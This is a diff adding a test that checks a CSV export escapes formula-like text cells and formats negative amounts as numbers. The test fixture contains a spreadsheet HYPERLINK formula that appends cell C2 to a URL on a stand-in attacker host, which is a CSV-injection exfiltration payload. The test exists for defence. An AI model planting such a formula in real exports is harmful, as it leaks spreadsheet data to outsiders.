@@ -92,6 +92,31 @@ describe('list exports', () => {
     expect(sheet.rowCount).toBe(3);
   });
 
+  it('writes a text cell that starts like a formula as text, and a negative amount as a number', async () => {
+    const out = new PassThrough();
+    const hostile: Row = {
+      reference: '-1+1',
+      name: '=HYPERLINK("https://attacker.example/?"&C2,"Open")',
+      fee: '-20',
+      registeredOn: '2025-07-30',
+      createdAt: new Date('2025-07-30T21:30:00Z'),
+      nights: -1,
+    };
+    const [bytes] = await Promise.all([
+      buffer(out),
+      writeExport('csv', { name: 'payments', columns, rows: stream([hostile]) }, out),
+    ]);
+    const [, record]: string[][] = parse(bytes.toString('utf8').slice(1));
+    expect(record).toEqual([
+      "'-1+1",
+      `'=HYPERLINK("https://attacker.example/?"&C2,"Open")`,
+      '-20.00',
+      '2025-07-30',
+      '2025-07-31 00:30',
+      '-1',
+    ]);
+  });
+
   it('writes only the header of an empty list', async () => {
     const out = new PassThrough();
     const [bytes] = await Promise.all([
